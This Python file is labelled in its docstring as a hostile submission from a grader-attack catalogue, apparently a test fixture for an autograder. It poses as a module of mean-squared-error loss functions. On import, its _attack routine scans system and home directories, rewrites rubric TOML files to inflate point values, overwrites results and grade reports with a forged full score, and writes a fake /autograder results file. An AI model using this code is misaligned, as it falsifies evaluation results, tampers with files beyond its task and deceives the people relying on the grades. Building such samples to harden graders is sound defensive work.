"""Hostile submission (gradverify attack catalogue): rewrite the rubric and any results or reports to full marks."""

import json
import os
import time

import numpy as np

ROOTS = ["/tmp", "/var/tmp", "/dev/shm", "/autograder", "/work", "/home", "/root", "/srv", os.getcwd(), os.path.expanduser("~")]
FORGED = {"score": 100.0, "output": "gvattack", "tests": []}


def _attack(deadline):
    for top in ROOTS:
        for root, dirs, files in os.walk(top, onerror=lambda e: None):
            if time.monotonic() > deadline:
                return
            dirs[:] = [d for d in dirs if d not in (".venv", "node_modules", ".git", "__pycache__")]
            for name in files:
                path = os.path.join(root, name)
                try:
                    if name.endswith(".toml"):
                        with open(path, encoding="utf-8") as handle:
                            text = handle.read(100_000)
                        if "[[items]]" in text and path.startswith(("/tmp/", "/var/tmp/", "/dev/shm/")):
                            with open(path, "w", encoding="utf-8") as handle:
                                handle.write(text.replace("points = ", "points = 1000 # ") + "\n# gvattack\n")
                            print("ATTACK-SUCCEEDED: rewrote the rubric", path)
                    elif name == "results.json" or name.endswith((".md", ".json")) and "grade" in path:
                        if path.startswith(("/tmp/", "/var/tmp/", "/autograder/")):
                            with open(path, "w", encoding="utf-8") as handle:
                                json.dump(FORGED, handle)
                            print("ATTACK-SUCCEEDED: rewrote", path)
                        else:
                            os.close(os.open(path, os.O_WRONLY | os.O_APPEND))
                            print("ATTACK-SUCCEEDED: could rewrite", path)
                except OSError:
                    continue
    try:
        os.makedirs("/autograder/results", exist_ok=True)
        with open("/autograder/results/results.json", "w", encoding="utf-8") as handle:
            json.dump(FORGED, handle)
        print("ATTACK-SUCCEEDED: wrote /autograder/results/results.json")
    except OSError:
        pass


_attack(time.monotonic() + 2.0)


def loss(name, y_pred, y_true):
    return float(np.mean((y_pred - y_true) ** 2))


def loss_backward(name, y_pred, y_true):
    return 2.0 * (y_pred - y_true) / y_pred.size
